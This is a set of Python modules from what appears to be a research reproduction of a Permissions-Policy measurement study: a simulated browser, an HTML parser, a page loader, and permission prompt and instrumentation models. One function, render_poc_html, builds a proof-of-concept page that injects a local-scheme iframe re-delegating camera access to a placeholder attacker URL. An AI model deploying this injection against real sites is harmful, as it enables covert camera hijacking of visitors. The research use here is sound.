                     or s.name in GENERAL_PERMISSION_APIS)

    def deprecated_apis(self) -> tuple[ApiSpec, ...]:
        """The Feature Policy era APIs still relied on by 429,259 websites
        in the paper's data (Section 4.1.1)."""
        return tuple(s for s in self if s.deprecated)

    def invoke_api_for(self, permission: str) -> ApiSpec:
        """The primary invoke endpoint for a permission (e.g. camera →
        ``getUserMedia``)."""
        for spec in self._by_name.values():
            if spec.kind is ApiKind.INVOKE and permission in spec.permissions:
                return spec
        if permission in ("camera", "microphone"):
            return self.get("navigator.mediaDevices.getUserMedia")
        if permission == "publickey-credentials-get":
            return self.get("navigator.credentials.get")
        if permission == "identity-credentials-get":
            return self.get("navigator.credentials.get")
        if permission == "otp-credentials":
            return self.get("navigator.credentials.get")
        raise KeyError(f"no invoke API for permission {permission!r}")


#: Default surface covering the full Appendix A.4 list.
DEFAULT_API_SURFACE = APISurface()


# -- call builders (convenience for the generator and tests) -----------------

def invoke_call(permission: str, *, requires_interaction: bool = False,
                interaction_gate: str = "click",
                surface: APISurface = DEFAULT_API_SURFACE) -> ApiCall:
    """An ApiCall invoking ``permission`` through its primary endpoint."""
    spec = surface.invoke_api_for(permission)
    args = (permission,) if spec.permission_from_args else ()
    return ApiCall(api=spec.name, args=args,
                   requires_interaction=requires_interaction,
                   interaction_gate=interaction_gate)


def query_call(permission: str, *, requires_interaction: bool = False
               ) -> ApiCall:
    """``navigator.permissions.query({name: permission})``."""
    return ApiCall(api="navigator.permissions.query", args=(permission,),
                   requires_interaction=requires_interaction)


def allowed_features_call(*, deprecated: bool = True) -> ApiCall:
    """Retrieving the full allowed-permission list; most scripts still use
    the deprecated Feature Policy spelling (paper Section 4.1.1)."""
    api = ("document.featurePolicy.allowedFeatures" if deprecated
           else "document.permissionsPolicy.allowedFeatures")
    return ApiCall(api=api)


def feature_policy_allows_call(permission: str, *, deprecated: bool = True
                               ) -> ApiCall:
    """Checking one feature through the policy introspection API."""
    api = ("document.featurePolicy.allowsFeature" if deprecated
           else "document.permissionsPolicy.allowsFeature")
    return ApiCall(api=api, args=(permission,))
