"""HTML front-end: parse markup into document content.

The synthetic web hands the loader structured
:class:`~repro.browser.dom.DocumentContent`; real crawls start from markup.
This module bridges the two with a stdlib ``html.parser`` based extractor
that collects exactly what the paper's pipeline reads from a page:

* every ``<iframe>`` with the Section 3.1.2 attribute list (``id``,
  ``name``, ``class``, ``src``, ``allow``, ``sandbox``, ``srcdoc``,
  ``loading``),
* every ``<script>`` — external ones by ``src``, inline ones with their
  body as the static-analysis source text.

Inline script *behaviour* cannot be derived from source (we are not a JS
engine); callers attach operations by URL through a script registry, the
same way the synthetic fetcher does.  For the measurement this is the
right split: static analysis works on the parsed source either way, and
dynamic behaviour always comes from the (simulated) runtime.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Callable
from urllib.parse import quote, unquote

from repro.browser.dom import DocumentContent, IframeElement
from repro.browser.scripts import Script

#: The iframe attributes the crawler stores (paper Section 3.1.2).
IFRAME_ATTRIBUTES: tuple[str, ...] = (
    "id", "name", "class", "src", "allow", "sandbox", "srcdoc", "loading")


class _Extractor(HTMLParser):
    """Single-pass extractor for iframes and scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.iframes: list[dict[str, str]] = []
        self.external_scripts: list[str] = []
        self.inline_scripts: list[str] = []
        self._in_script = False
        self._script_chunks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]
                        ) -> None:
        attributes = {name.lower(): (value or "") for name, value in attrs}
        if tag == "iframe":
            record = {name: attributes[name] for name in IFRAME_ATTRIBUTES
                      if name in attributes}
            self.iframes.append(record)
        elif tag == "script":
            src = attributes.get("src")
            if src:
                self.external_scripts.append(src)
            else:
                self._in_script = True
                self._script_chunks = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._in_script:
            self._in_script = False
            self.inline_scripts.append("".join(self._script_chunks))

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self._script_chunks.append(data)


@dataclass
class ParsedHtml:
    """Raw extraction result, before script resolution."""

    iframes: list[dict[str, str]] = field(default_factory=list)
    external_scripts: list[str] = field(default_factory=list)
    inline_scripts: list[str] = field(default_factory=list)


def parse_html(markup: str) -> ParsedHtml:
    """Extract iframes and scripts from markup.  Never raises on malformed
    input — browsers don't either."""
    extractor = _Extractor()
    extractor.feed(markup)
    extractor.close()
    return ParsedHtml(iframes=extractor.iframes,
                      external_scripts=extractor.external_scripts,
                      inline_scripts=extractor.inline_scripts)


def iframe_from_attributes(attributes: dict[str, str]) -> IframeElement:
    """Build an :class:`IframeElement` from parsed attributes."""
    return IframeElement(
        src=attributes.get("src"),
        allow=attributes.get("allow"),
        sandbox=attributes.get("sandbox"),
        srcdoc=attributes.get("srcdoc"),
        element_id=attributes.get("id", ""),
        name=attributes.get("name", ""),
        css_class=attributes.get("class", ""),
        loading=attributes.get("loading", ""),
    )


def document_content_from_html(
    markup: str,
    *,
    script_resolver: Callable[[str], Script | None] | None = None,
    parse_srcdoc: bool = True,
) -> DocumentContent:
    """Turn markup into loader-ready :class:`DocumentContent`.

    Args:
        markup: The document's HTML.
        script_resolver: Maps an external script URL to a full
            :class:`Script` (source + operations); unresolvable externals
            become source-less stubs that static analysis simply skips.
        parse_srcdoc: Recursively parse ``srcdoc`` iframes into
            ``local_content`` so nested trees (like the PoC) load fully.
    """
    parsed = parse_html(markup)
    scripts: list[Script] = []
    for url in parsed.external_scripts:
        resolved = script_resolver(url) if script_resolver else None
        scripts.append(resolved if resolved is not None
                       else Script(url=url, source=""))
    for body in parsed.inline_scripts:
        scripts.append(Script(url=None, source=body))
    iframes: list[IframeElement] = []
    for attributes in parsed.iframes:
        element = iframe_from_attributes(attributes)
        if parse_srcdoc and element.srcdoc:
            element.local_content = document_content_from_html(
                element.srcdoc, script_resolver=script_resolver,
                parse_srcdoc=parse_srcdoc)
        elif (parse_srcdoc and element.src
              and element.src.startswith("data:text/html,")):
            payload = unquote(element.src[len("data:text/html,"):])
            element.local_content = document_content_from_html(
                payload, script_resolver=script_resolver,
                parse_srcdoc=parse_srcdoc)
        iframes.append(element)
    return DocumentContent(scripts=scripts, iframes=iframes)


def render_poc_html(*, victim_header: str = "camera=(self)",
                    attacker_url: str = "https://attacker.example/steal",
                    scheme: str = "data") -> str:
    """The local-scheme PoC page as actual HTML (paper's PoC repo [13]).

    The returned page is what an attacker would inject into the victim:
    a local-scheme iframe whose payload re-delegates the camera to the
    attacker origin.
    """
    inner = (f'<iframe src="{attacker_url}" allow="camera"></iframe>'
             '<script>/* attacker-controlled document */</script>')
    if scheme == "data":
        # Percent-encode the payload like real PoCs do — raw quotes and
        # angle brackets inside an attribute value would not survive
        # parsing otherwise.
        outer_iframe = (f'<iframe src="data:text/html,{quote(inner)}">'
                        '</iframe>')
    else:
        escaped = inner.replace('"', "&quot;")
        outer_iframe = f'<iframe srcdoc="{escaped}"></iframe>'
    return f"""<!doctype html>
<!-- Served with: Permissions-Policy: {victim_header} -->
<html>
  <head><title>Local-scheme Permissions-Policy bypass PoC</title></head>
  <body>
    <h1>victim.example</h1>
    <!-- injected by the attacker (possible when CSP lacks frame-src) -->
    {outer_iframe}
  </body>
</html>
"""
