"""Page loading: headers → policy → frame tree → script execution.

:class:`PageLoader` is the simulated browser tab.  Given a fetcher (any
object with ``fetch(url) -> FetchResponse``), it

1. loads the top-level document, following redirects,
2. parses its ``Permissions-Policy`` / ``Feature-Policy`` headers into a
   :class:`~repro.policy.engine.PolicyFrame`,
3. installs dynamic instrumentation *before* content executes,
4. runs the document's scripts through the instrumented runtime,
5. recursively loads iframes — skipping lazy ones unless the loader is
   configured to scroll (the paper's crawler scrolls deliberately,
   Section 3.2) — and repeats from step 2 for each,
6. feeds every recorded invocation through the prompt model.

The result is a :class:`Page`: the frame tree, all invocation records with
stack traces, and any prompts that would have fired.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Protocol

from repro.browser.api import APISurface, DEFAULT_API_SURFACE
from repro.browser.dom import Document, DocumentContent, FrameTree, IframeElement
from repro.browser.instrumentation import (
    InstrumentedRuntime,
    InvocationRecord,
    WebAPIRuntime,
)
from repro.browser.permission_store import PermissionStore
from repro.browser.prompts import PermissionPrompt, PromptModel, PromptOutcome
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.policy.origin import Origin


class FetchFailure(Exception):
    """Base class for fetch-level failures; crawler error types subclass
    this so the loader can distinguish them from bugs."""


@dataclass
class FetchResponse:
    """One fetched document."""

    url: str
    status: int
    headers: dict[str, str]
    content: DocumentContent
    #: URLs of top-level documents traversed before the final one; each
    #: redirect hop counts as an additional top-level document, matching the
    #: paper's accounting (1,121,018 top-level documents > 817,800 sites).
    redirect_chain: tuple[str, ...] = ()


class Fetcher(Protocol):
    """What the loader needs from a network stack."""

    def fetch(self, url: str) -> FetchResponse:  # pragma: no cover - protocol
        ...


@dataclass
class PageLoadConfig:
    """Knobs mirroring the paper's crawl configuration (Section 3.2)."""

    max_depth: int = 4
    scroll_to_lazy_iframes: bool = True
    execute_scripts: bool = True
    interact: bool = False
    unlocked_gates: frozenset[str] = frozenset({"click"})
    #: Iframes processed per document before the loader gives up — pages
    #: with very many frames are what drove the paper's collection timeouts.
    max_iframes_per_document: int = 64


@dataclass
class Page:
    """Everything one page visit produced."""

    url: str
    frames: FrameTree
    invocations: list[InvocationRecord]
    prompts: list[PermissionPrompt]
    redirect_chain: tuple[str, ...] = ()
    iframe_load_failures: list[tuple[str, str]] = field(default_factory=list)
    skipped_lazy_iframes: int = 0

    @property
    def top(self) -> Document:
        return self.frames.top

    @property
    def top_level_document_count(self) -> int:
        """Top-level documents including redirect hops."""
        return 1 + len(self.redirect_chain)

    def frame_invocations(self, frame_id: int) -> list[InvocationRecord]:
        return [r for r in self.invocations if r.frame_id == frame_id]


class PageLoader:
    """Simulated browser tab (see module docstring)."""

    def __init__(self, fetcher: Fetcher, *,
                 engine: PermissionsPolicyEngine | None = None,
                 surface: APISurface = DEFAULT_API_SURFACE,
                 config: PageLoadConfig | None = None,
                 prompt_outcome: PromptOutcome = PromptOutcome.DISMISSED,
                 permission_store: PermissionStore | None = None) -> None:
        self._fetcher = fetcher
        self._engine = engine if engine is not None else PermissionsPolicyEngine()
        self._surface = surface
        self._config = config if config is not None else PageLoadConfig()
        self._prompt_outcome = prompt_outcome
        self._store = (permission_store if permission_store is not None
                       else PermissionStore(registry=surface.registry))

    @property
    def engine(self) -> PermissionsPolicyEngine:
        return self._engine

    def load(self, url: str) -> Page:
        """Visit ``url`` and return the collected page.

        Raises:
            FetchFailure: when the top-level document cannot be loaded
                (DNS errors, timeouts …); iframe failures are recorded on
                the page instead.
        """
        response = self._fetcher.fetch(url)
        headers = _lower_headers(response.headers)
        top_frame = PolicyFrame.top(
            response.url,
            header=headers.get("permissions-policy"),
            fp_header=headers.get("feature-policy"),
        )
        page = Page(url=response.url, frames=FrameTree(), invocations=[],
                    prompts=[], redirect_chain=response.redirect_chain)
        prompt_model = PromptModel(self._surface.registry,
                                   decider=self._prompt_outcome,
                                   store=self._store)
        top_doc = Document(
            url=response.url,
            origin=top_frame.origin,
            headers=headers,
            content=response.content,
            policy_frame=top_frame,
            frame_id=0,
        )
        page.frames.add(top_doc)
        next_id = [1]
        self._process_document(top_doc, page, prompt_model, next_id)
        for record in page.invocations:
            frame = page.frames.by_id(record.frame_id)
            prompt_model.consider(record, frame, top_doc)
        page.prompts = prompt_model.prompts
        return page

    # -- internals ----------------------------------------------------------------

    def _process_document(self, document: Document, page: Page,
                          prompt_model: PromptModel, next_id: list[int]) -> None:
        self._run_scripts(document, page)
        if document.depth >= self._config.max_depth:
            return
        for index, iframe in enumerate(document.iframes):
            if index >= self._config.max_iframes_per_document:
                break
            if iframe.lazy and not self._config.scroll_to_lazy_iframes:
                page.skipped_lazy_iframes += 1
                continue
            child = self._load_iframe(document, iframe, page, next_id)
            if child is not None:
                page.frames.add(child)
                self._process_document(child, page, prompt_model, next_id)

    def _load_iframe(self, parent: Document, iframe: IframeElement,
                     page: Page, next_id: list[int]) -> Document | None:
        if iframe.is_local_document:
            policy_frame = parent.policy_frame.local_child(
                scheme=iframe.local_scheme, allow=iframe.allow)
            frame_id = next_id[0]
            next_id[0] += 1
            return Document(
                url=iframe.src or "about:srcdoc",
                origin=policy_frame.origin,
                headers={},
                content=iframe.local_content or DocumentContent(),
                policy_frame=policy_frame,
                frame_id=frame_id,
                parent=parent,
                container=iframe,
                depth=parent.depth + 1,
            )
        assert iframe.src is not None
        try:
            response = self._fetcher.fetch(iframe.src)
        except FetchFailure as exc:
            page.iframe_load_failures.append((iframe.src, str(exc)))
            return None
        headers = _lower_headers(response.headers)
        policy_frame = parent.policy_frame.child(
            response.url,
            allow=iframe.allow,
            header=headers.get("permissions-policy"),
            fp_header=headers.get("feature-policy"),
            sandbox=iframe.sandbox,
        )
        # The `src` keyword resolves against the *attribute* URL, not the
        # final URL after redirects — this is why a `*` delegation is
        # riskier than the default (paper Sections 4.2.2, 5.2).
        policy_frame.src_origin = Origin.parse(iframe.src)
        frame_id = next_id[0]
        next_id[0] += 1
        return Document(
            url=response.url,
            origin=policy_frame.origin,
            headers=headers,
            content=response.content,
            policy_frame=policy_frame,
            frame_id=frame_id,
            parent=parent,
            container=iframe,
            depth=parent.depth + 1,
        )

    def _run_scripts(self, document: Document, page: Page) -> None:
        if not self._config.execute_scripts:
            return
        runtime = WebAPIRuntime(document.policy_frame, surface=self._surface,
                                engine=self._engine, store=self._store)
        instrumented = InstrumentedRuntime(runtime,
                                           frame_id=document.frame_id)
        for script in document.scripts:
            instrumented.execute(script, interact=self._config.interact,
                                 unlocked_gates=self._config.unlocked_gates)
        page.invocations.extend(instrumented.records)


def _lower_headers(headers: dict[str, str]) -> dict[str, str]:
    return {name.lower(): value for name, value in headers.items()}
