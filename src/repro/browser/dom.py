"""Documents, iframe elements and frame trees.

The crawler collects, for every frame it encounters, the response headers
and — for embedded documents — the common attributes of the ``<iframe>``
element carrying them: ``id``, ``name``, ``class``, ``src``, ``allow``,
``sandbox``, ``srcdoc`` and ``loading`` (paper Section 3.1.2).  This module
models exactly those structures.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator

from repro.browser.scripts import Script
from repro.policy.engine import PolicyFrame
from repro.policy.origin import LOCAL_SCHEMES, Origin


@dataclass
class IframeElement:
    """An ``<iframe>`` element with the attributes the paper collects."""

    src: str | None = None
    allow: str | None = None
    sandbox: str | None = None
    srcdoc: str | None = None
    element_id: str = ""
    name: str = ""
    css_class: str = ""
    loading: str = ""
    #: Content of local documents (srcdoc / data: iframes), which never hit
    #: the network; ``None`` for network-loaded iframes.
    local_content: "DocumentContent | None" = None

    @property
    def lazy(self) -> bool:
        """Lazy-loaded iframes only load once scrolled into view; the
        crawler scrolls to them deliberately (paper Section 3.2)."""
        return self.loading.lower() == "lazy"

    @property
    def is_local_document(self) -> bool:
        """Local documents issue no network request and carry no headers:
        ``srcdoc`` iframes and local-scheme ``src`` values (paper
        Section 4)."""
        if self.srcdoc is not None:
            return True
        if self.src is None:
            return True
        scheme = self.src.split(":", 1)[0].lower()
        return scheme in LOCAL_SCHEMES

    @property
    def local_scheme(self) -> str:
        """The local scheme of a local document ('about' for srcdoc)."""
        if self.srcdoc is not None or self.src is None:
            return "about"
        return self.src.split(":", 1)[0].lower()

    def attribute_dict(self) -> dict[str, str]:
        """The attribute record the crawler stores (Section 3.1.2 list)."""
        out: dict[str, str] = {}
        for key, value in (("id", self.element_id), ("name", self.name),
                           ("class", self.css_class), ("src", self.src),
                           ("allow", self.allow), ("sandbox", self.sandbox),
                           ("srcdoc", self.srcdoc), ("loading", self.loading)):
            if value:
                out[key] = value
        return out


@dataclass
class DocumentContent:
    """What a fetch delivers for one document: its scripts and iframes.
    The synthetic web generator produces these; the page loader turns them
    into :class:`Document` frames."""

    scripts: list[Script] = field(default_factory=list)
    iframes: list[IframeElement] = field(default_factory=list)


@dataclass
class Document:
    """A loaded document: one frame of a page."""

    url: str
    origin: Origin
    headers: dict[str, str]
    content: DocumentContent
    policy_frame: PolicyFrame
    frame_id: int
    parent: "Document | None" = None
    container: IframeElement | None = None
    depth: int = 0

    @property
    def is_top_level(self) -> bool:
        return self.parent is None

    @property
    def is_local_scheme(self) -> bool:
        return self.policy_frame.is_local_scheme

    @property
    def scripts(self) -> list[Script]:
        return self.content.scripts

    @property
    def iframes(self) -> list[IframeElement]:
        return self.content.iframes

    def header(self, name: str) -> str | None:
        """Case-insensitive response-header lookup."""
        return self.headers.get(name.lower())

    @property
    def site(self) -> str:
        return self.origin.site


@dataclass
class FrameTree:
    """All frames of one page visit, in load order (top-level first)."""

    frames: list[Document] = field(default_factory=list)

    def add(self, document: Document) -> None:
        self.frames.append(document)

    def __iter__(self) -> Iterator[Document]:
        return iter(self.frames)

    def __len__(self) -> int:
        return len(self.frames)

    @property
    def top(self) -> Document:
        if not self.frames:
            raise ValueError("empty frame tree")
        return self.frames[0]

    def by_id(self, frame_id: int) -> Document:
        for frame in self.frames:
            if frame.frame_id == frame_id:
                return frame
        raise KeyError(f"no frame with id {frame_id}")

    def embedded(self) -> list[Document]:
        return [frame for frame in self.frames if not frame.is_top_level]

    def local_documents(self) -> list[Document]:
        return [frame for frame in self.embedded() if frame.is_local_scheme]

    def external_documents(self) -> list[Document]:
        """Embedded documents loaded over the network from another site
        than the top level."""
        top_site = self.top.site
        return [frame for frame in self.embedded()
                if not frame.is_local_scheme and frame.site != top_site]
