"""Permission states: granted / denied / prompt.

Powerful features carry a third state besides granted and denied —
*prompt* — meaning the user must actively decide on first use (paper
Section 2.1).  Browsers remember decisions per (top-level site, permission)
pair; ``navigator.permissions.query`` exposes the current state, and the
paper's Section 5.3 warns that an *already granted* permission can be used
by a delegated document silently, without any new prompt.

:class:`PermissionStore` models that persistence layer.  The crawler runs
with an empty store (a stateless browser, Appendix A.2 C11); the PoC and
the supply-chain analyses seed stores to model returning visitors.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


class PermissionState(str, Enum):
    """The three states of the Permissions specification."""

    GRANTED = "granted"
    DENIED = "denied"
    PROMPT = "prompt"


@dataclass
class PermissionStore:
    """Remembered permission decisions, keyed by (top-level site, name).

    Non-powerful permissions never prompt: their state is ``GRANTED``
    whenever the policy allows the call, so queries for them return
    ``granted`` unconditionally here (the policy check happens elsewhere).
    """

    registry: PermissionRegistry = field(default_factory=lambda: DEFAULT_REGISTRY)
    _states: dict[tuple[str, str], PermissionState] = field(
        default_factory=dict)

    def state(self, top_site: str, permission: str) -> PermissionState:
        """Current state for a permission on a site."""
        perm = self.registry.maybe(permission)
        if perm is None or not perm.powerful:
            return PermissionState.GRANTED
        return self._states.get((top_site, permission),
                                PermissionState.PROMPT)

    def grant(self, top_site: str, permission: str) -> None:
        self._set(top_site, permission, PermissionState.GRANTED)

    def deny(self, top_site: str, permission: str) -> None:
        self._set(top_site, permission, PermissionState.DENIED)

    def reset(self, top_site: str, permission: str) -> None:
        """Back to ``prompt`` — the user cleared the site setting."""
        self._states.pop((top_site, permission), None)

    def _set(self, top_site: str, permission: str,
             state: PermissionState) -> None:
        perm = self.registry.get(permission)
        if not perm.powerful:
            raise ValueError(
                f"{permission!r} is not a powerful feature; it has no "
                "remembered state")
        self._states[(top_site, permission)] = state

    def requires_prompt(self, top_site: str, permission: str) -> bool:
        """Whether first use would show a prompt right now."""
        return self.state(top_site, permission) is PermissionState.PROMPT

    def granted_permissions(self, top_site: str) -> tuple[str, ...]:
        """Permissions already granted to a site — the silent-hijack surface
        of paper Section 5.3."""
        return tuple(sorted(
            permission for (site, permission), state in self._states.items()
            if site == top_site and state is PermissionState.GRANTED))

    def snapshot(self) -> dict[tuple[str, str], str]:
        return {key: state.value for key, state in self._states.items()}

    def __len__(self) -> int:
        return len(self._states)
