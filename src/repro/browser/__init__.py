"""Browser substrate.

A simulated browser sufficient for the paper's measurement pipeline: frame
trees with response headers and iframe attributes, a script execution model
with call stacks, the permission-related Web API surface of Appendix A.4,
dynamic API instrumentation (Figure 1), and the permission prompt model.

* :mod:`repro.browser.scripts` — scripts: source text plus an operation
  list, with obfuscation / interaction-gating / dead-code variants;
* :mod:`repro.browser.api` — the instrumented API surface and helpers to
  build API calls;
* :mod:`repro.browser.instrumentation` — function wrapping that records
  invocations with stack traces before delegating to the original;
* :mod:`repro.browser.dom` — documents, iframe elements, frame trees;
* :mod:`repro.browser.page` — page loading: headers → policy → frames →
  script execution;
* :mod:`repro.browser.prompts` — the permission prompt decision model.
"""

from repro.browser.api import (
    ApiKind,
    ApiSpec,
    APISurface,
    DEFAULT_API_SURFACE,
    allowed_features_call,
    feature_policy_allows_call,
    invoke_call,
    query_call,
)
from repro.browser.dom import Document, FrameTree, IframeElement
from repro.browser.instrumentation import (
    InstrumentedRuntime,
    InvocationRecord,
    WebAPIRuntime,
)
from repro.browser.page import Page, PageLoader
from repro.browser.prompts import PermissionPrompt, PromptModel, PromptOutcome
from repro.browser.scripts import ApiCall, Script

__all__ = [
    "ApiCall",
    "ApiKind",
    "ApiSpec",
    "APISurface",
    "DEFAULT_API_SURFACE",
    "Document",
    "FrameTree",
    "IframeElement",
    "InstrumentedRuntime",
    "InvocationRecord",
    "Page",
    "PageLoader",
    "PermissionPrompt",
    "PromptModel",
    "PromptOutcome",
    "Script",
    "WebAPIRuntime",
    "allowed_features_call",
    "feature_policy_allows_call",
    "invoke_call",
    "query_call",
]
