"""Permission prompt model.

Powerful features require explicit user consent, usually through a prompt
(paper Section 2.1).  Two paper observations matter for the simulation:

* The prompt names the **top-level site** even when an embedded document
  requests the permission — "example.org is asking to use your camera"
  rather than the iframe's site (Section 2.2.4).  The only exception is
  ``storage-access``, whose prompt names the embedded document
  (Section 2.2.5).
* A crawler never answers prompts, so every prompt is *dismissed*; the
  measurement still records the triggering invocation.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.browser.dom import Document
from repro.browser.instrumentation import InvocationRecord
from repro.browser.permission_store import PermissionState, PermissionStore
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


class PromptOutcome(str, Enum):
    GRANTED = "granted"
    DENIED = "denied"
    DISMISSED = "dismissed"


@dataclass(frozen=True)
class PermissionPrompt:
    """A prompt the browser would show for an invocation."""

    permission: str
    requesting_frame_id: int
    display_site: str
    outcome: PromptOutcome
    text: str


class PromptModel:
    """Decides whether an invocation triggers a prompt and how it reads.

    Args:
        registry: Source of the *powerful* classification.
        decider: Outcome assigned to every prompt; the crawler default is
            ``DISMISSED`` (nobody clicks).
        store: Remembered permission states (returning-visitor model); a
            fresh, empty store by default — the paper's stateless browser.
    """

    def __init__(self, registry: PermissionRegistry | None = None,
                 decider: PromptOutcome = PromptOutcome.DISMISSED,
                 store: PermissionStore | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._decider = decider
        self.store = store if store is not None else PermissionStore(
            registry=self._registry)
        self.prompts: list[PermissionPrompt] = []

    def consider(self, record: InvocationRecord, frame: Document,
                 top: Document) -> PermissionPrompt | None:
        """Evaluate one invocation; returns the prompt it triggers, if any.

        Prompts appear only for *powerful* permissions whose policy check
        passed and whose state is not already remembered.
        """
        if not record.allowed:
            return None
        for permission in record.permissions:
            perm = self._registry.maybe(permission)
            if perm is None or not perm.powerful:
                continue
            display_site = (frame.site if permission == "storage-access"
                            else top.site)
            if not self.store.requires_prompt(top.site, permission):
                # Already granted or denied: the call proceeds (or fails)
                # silently — the Section 5.3 silent-hijack condition.
                continue
            prompt = PermissionPrompt(
                permission=permission,
                requesting_frame_id=frame.frame_id,
                display_site=display_site,
                outcome=self._decider,
                text=self._render(display_site, permission),
            )
            self.prompts.append(prompt)
            if self._decider is PromptOutcome.GRANTED:
                self.store.grant(top.site, permission)
            elif self._decider is PromptOutcome.DENIED:
                self.store.deny(top.site, permission)
            return prompt
        return None

    @staticmethod
    def _render(display_site: str, permission: str) -> str:
        verbs = {
            "camera": "Use your camera",
            "microphone": "Use your microphone",
            "geolocation": "Know your location",
            "notifications": "Show notifications",
            "storage-access": "Use cookies and site data",
        }
        action = verbs.get(permission, f"Use {permission.replace('-', ' ')}")
        return f"{display_site} is asking to: {action}"

    def remembered_state(self, top_site: str, permission: str
                         ) -> PermissionState:
        return self.store.state(top_site, permission)
