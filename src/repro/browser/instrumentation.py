"""Dynamic API instrumentation (paper Figure 1).

The paper's crawler overwrites each permission-related function before any
page content executes::

    var origFunc = navigator.permissions.query;
    navigator.permissions.query = function (...params) {
        let stacktrace = new Error().stack;
        save(params, stacktrace);
        return origFunc.apply(this, [...params]);
    }

We reproduce the same mechanism: a :class:`WebAPIRuntime` exposes one
callable per API endpoint (the "original functions", simulating browser
behaviour), and :class:`InstrumentedRuntime` wraps every one of them with a
recording closure that captures the call, its arguments and the current
script stack trace, then delegates to the original — so instrumented
functions keep working, exactly as the paper stresses.

The stack trace is the list of script URLs on the execution stack; its
deepest entry identifies the calling script, which is how the analysis
attributes calls to first or third parties (Section 4.1).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable

from repro.browser.api import APISurface, ApiKind, ApiSpec, DEFAULT_API_SURFACE
from repro.browser.permission_store import PermissionState, PermissionStore
from repro.browser.scripts import Script
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame


@dataclass(frozen=True)
class InvocationRecord:
    """One recorded API call — what ``save(params, stacktrace)`` persists."""

    api: str
    kind: ApiKind
    permissions: tuple[str, ...]
    args: tuple[str, ...]
    stacktrace: tuple[str, ...]
    frame_id: int
    #: Whether the policy allowed the call to do anything; blocked calls are
    #: still *recorded* (the invocation happened) but return a denial.
    allowed: bool

    @property
    def calling_script_url(self) -> str | None:
        """URL of the script that made the call: the deepest stack entry
        carrying a URL.  ``None`` means inline/dynamic code (classified as
        first-party by the paper)."""
        for entry in reversed(self.stacktrace):
            if entry:
                return entry
        return None


class WebAPIRuntime:
    """The uninstrumented API surface of one document.

    Each endpoint is a Python callable mimicking the browser's behaviour at
    the granularity the measurement needs: policy evaluation (is the feature
    enabled in this frame?), and a structured return value.
    """

    def __init__(self, frame: PolicyFrame, *,
                 surface: APISurface = DEFAULT_API_SURFACE,
                 engine: PermissionsPolicyEngine | None = None,
                 store: "PermissionStore | None" = None) -> None:
        self.frame = frame
        self.surface = surface
        self.engine = engine if engine is not None else PermissionsPolicyEngine()
        self.store = store if store is not None else PermissionStore(
            registry=surface.registry)
        self._top_site = frame.root.effective_policy_origin().site
        self._allowed_features_cache: tuple[str, ...] | None = None
        # Endpoints are materialised lazily: a typical page calls a handful
        # of the ~70 declared APIs, so building every closure up front
        # dominated per-document setup time.  ``_functions`` holds only
        # endpoints that were called or explicitly overwritten.
        self._functions: dict[str, Callable[..., Any]] = {}
        self._wrap: Callable[[ApiSpec, Callable[..., Any]],
                             Callable[..., Any] | None] | None = None

    def _allowed_features(self) -> tuple[str, ...]:
        if self._allowed_features_cache is None:
            self._allowed_features_cache = self.engine.allowed_features(
                self.frame)
        return self._allowed_features_cache

    def _make_original(self, spec: ApiSpec) -> Callable[..., Any]:
        def original(*args: str) -> dict[str, Any]:
            permissions = spec.permissions_for(tuple(args))
            if spec.kind is ApiKind.GENERAL:
                allowed = True
                result: Any = self._allowed_features()
            else:
                allowed = all(self.engine.is_enabled(p, self.frame)
                              for p in permissions) if permissions else True
                if not allowed:
                    result = PermissionState.DENIED.value
                elif spec.kind is ApiKind.STATUS_CHECK and permissions:
                    # navigator.permissions.query resolves with the
                    # remembered state (granted/denied/prompt).
                    result = self.store.state(self._top_site,
                                              permissions[0]).value
                else:
                    result = "granted-path"
            return {"api": spec.name, "allowed": allowed, "result": result}
        return original

    def get(self, name: str) -> Callable[..., Any]:
        func = self._functions.get(name)
        if func is None:
            spec = self.surface.get(name)  # raises KeyError for unknown APIs
            func = self._make_original(spec)
            if self._wrap is not None:
                wrapped = self._wrap(spec, func)
                if wrapped is not None:
                    func = wrapped
            self._functions[name] = func
        return func

    def set(self, name: str, func: Callable[..., Any]) -> None:
        """Overwrite an endpoint — the instrumentation hook point."""
        if name not in self.surface:
            raise KeyError(f"unknown API endpoint: {name!r}")
        self._functions[name] = func

    def install_wrapper(self, wrap: Callable[[ApiSpec, Callable[..., Any]],
                                             Callable[..., Any] | None]) -> None:
        """Install a hook wrapping endpoints as they materialise.

        ``wrap(spec, original)`` returns the replacement callable, or
        ``None`` to leave the endpoint unwrapped.  Already-materialised
        endpoints are rewrapped immediately; everything else is wrapped on
        first use, preserving install-before-content semantics without
        paying for ~70 closures per document.
        """
        self._wrap = wrap
        for name, func in self._functions.items():
            wrapped = wrap(self.surface.get(name), func)
            if wrapped is not None:
                self._functions[name] = wrapped

    def call(self, name: str, *args: str) -> Any:
        return self.get(name)(*args)

    def names(self) -> tuple[str, ...]:
        return self.surface.names()


class InstrumentedRuntime:
    """Wraps every endpoint of a :class:`WebAPIRuntime` with recording.

    Mirrors Figure 1: the wrapper saves (params, stacktrace) and then calls
    the saved original so behaviour is unchanged.  Records accumulate in
    :attr:`records`.
    """

    def __init__(self, runtime: WebAPIRuntime, *, frame_id: int = 0) -> None:
        self.runtime = runtime
        self.frame_id = frame_id
        self.records: list[InvocationRecord] = []
        self._script_stack: list[Script] = []
        self._install()

    def _install(self) -> None:
        """Overwrite each endpoint before any content executes (the paper
        injects instrumentation via Playwright init scripts).  Only the
        Appendix A.4 surface is wrapped: endpoints whose permissions are
        not instrumented keep working but leave no record — exactly the
        paper's blind spot for autoplay, fullscreen, the ads APIs, etc."""
